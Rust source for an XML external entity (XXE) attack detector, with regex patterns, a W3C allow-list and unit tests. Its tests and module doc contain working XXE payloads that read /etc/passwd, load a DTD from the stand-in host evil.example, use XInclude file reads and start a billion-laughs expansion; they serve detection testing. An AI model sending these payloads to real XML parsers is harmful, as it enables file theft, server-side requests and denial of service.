//! XML external entity (XXE) detector.
//!
//! # What
//! Document type declarations that pull in external content: `<!ENTITY`
//! with `SYSTEM`/`PUBLIC` identifiers, parameter entities (`<!ENTITY % x`),
//! `<!DOCTYPE root SYSTEM "…">` external DTDs not served by the W3C, entity
//! references to parameter entities inside a DTD (`%x;`), and XInclude
//! (`xmlns:xi="http://www.w3.org/2001/XInclude"`, `<xi:include`).
//!
//! # Why
//! XML parsers that resolve external entities read local files, make
//! server-side requests and can be driven to exhaust memory (billion laughs).
//! Ordinary documents (`<!DOCTYPE html>`, XHTML DOCTYPEs pointing to w3.org)
//! are left alone.
//!
//! # Gate
//! Every pattern needs markup `<` and a declaration's `!` (`<!ENTITY`,
//! `<!DOCTYPE`) or a namespace `:` (`xi:include`, `xmlns:xi`); a value without
//! them is skipped.
//!
//! # Example
//! `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>` → `Xxe`.
//!
//! # References
//! CWE-611, CWE-776; OWASP CRS REQUEST-921 / REQUEST-944 XXE-related rules,
//! OWASP XXE Prevention Cheat Sheet.

use std::sync::LazyLock;

use crate::{AttackClass, ByteClasses, Detection};

static ENTITY: LazyLock<regex::bytes::Regex> = LazyLock::new(|| {
    crate::regex(concat!(
        r#"(?i)<!ENTITY\s+(?:%\s*)?[\w.:-]+\s+(?:SYSTEM|PUBLIC)\b|"#,
        r#"<!ENTITY\s+%\s*[\w.:-]+|"#,
        r#"<!ENTITY\s+[\w.:-]+\s+["'](?:[^"']{0,200}&[\w.:-]+;){4}|"#,
        r#"<xi:include\b|xmlns:xi\s*=\s*["']http://www\.w3\.org/2001/xinclude|"#,
        r#"<!DOCTYPE\s+[\w.:-]+\s+(?:SYSTEM|PUBLIC\s+["'][^"']{0,200}["'])\s*["']([^"']{0,500})["']"#,
    ))
});

/// Inspects `input` and returns a detection when it holds an attack of this class.
pub fn detect(input: &[u8]) -> Option<Detection> {
    detect_gated(input, ByteClasses::of(input))
}

/// The gate of [`detect_gated`] (see the module doc): false when no value of
/// `classes` can hold an attack of this class.
pub(crate) fn may_fire(classes: ByteClasses) -> bool {
    classes.has_any(classes!(b"<")) && classes.has_any(classes!(b"!:"))
}

/// [`detect`] for an input whose byte classes are `classes` (or a subset of them).
pub fn detect_gated(input: &[u8], classes: ByteClasses) -> Option<Detection> {
    if !may_fire(classes) {
        return None;
    }
    // Markup is required, also for the `xmlns:xi` declaration (not only a gate).
    memchr::memchr(b'<', input)?;
    for captures in ENTITY.captures_iter(input) {
        let whole = captures.get(0)?;
        if let Some(system_id) = captures.get(1) {
            // External DTD: W3C-hosted DTDs are ordinary XHTML/SVG doctypes.
            let id = system_id.as_bytes();
            if crate::starts_with_ci(id, b"http://www.w3.org/")
                || crate::starts_with_ci(id, b"https://www.w3.org/")
            {
                continue;
            }
        }
        return Some(Detection::new(
            AttackClass::Xxe,
            8,
            whole.range(),
            "external entity / dtd",
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn detects_external_entities() {
        for payload in [
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            r#"<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>"#,
            r#"<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo/>"#,
            r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
            r#"<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;">"#,
        ] {
            assert!(detect(payload.as_bytes()).is_some(), "missed {payload:?}");
        }
    }

    #[test]
    fn ordinary_doctypes_are_quiet() {
        for text in [
            "<!DOCTYPE html><html><body>hi</body></html>",
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
            "<p>entity &amp; system</p>",
        ] {
            assert_eq!(detect(text.as_bytes()), None, "false positive on {text:?}");
        }
    }
}
